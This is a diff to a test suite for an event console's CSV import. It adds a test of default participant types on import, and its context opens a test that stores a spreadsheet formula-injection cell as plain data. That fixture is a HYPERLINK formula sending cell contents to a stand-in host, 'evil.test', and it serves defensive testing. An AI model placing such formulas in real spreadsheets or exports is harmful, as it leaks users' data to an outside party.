@@ -165,6 +165,25 @@ describe('organizer console: import', () => {
     expect(job.body.data).toMatchObject({ state: 'done', updated: 1 });
   });
 
+  it('people imported without a type get the type offered at registration; a given type is kept', async () => {
+    const event = await makeEvent(t.ctx);
+    const owner = await makePerson(t.ctx, event.id, { organizer: true, organizerRole: 'owner' });
+    const guest = await makeType(t.ctx, event.id, { name: 'Guest', atRegistration: true, priority: 2 });
+    const vip = await makeType(t.ctx, event.id, { name: 'VIP' });
+    const text = ['email,name,surname,company,type', 'cy@x.test,Cy,Ko,,', 'di@x.test,Di,Lu,,VIP'].join('\n');
+    const body = { ...csvFile(text), mapping: MAPPING };
+    expect((await post<ImportJob>(owner, event.id, 'commit', body)).body.data).toMatchObject({ inserted: 2 });
+    expect((await participants(event.id)).map((r) => [r.email, r.type_id])).toEqual([
+      ['cy@x.test', guest.id],
+      ['di@x.test', vip.id],
+    ]);
+    expect((await post<ImportJob>(owner, event.id, 'commit', body)).body.data).toMatchObject({
+      inserted: 0,
+      updated: 0,
+      unchanged: 2,
+    });
+  });
+
   it('stores a formula-injection cell verbatim as data; nothing evaluates it', async () => {
     const { event, owner } = await organizedEvent();
     const evil = '=HYPERLINK("http://evil.test?x="&A1,"click")';
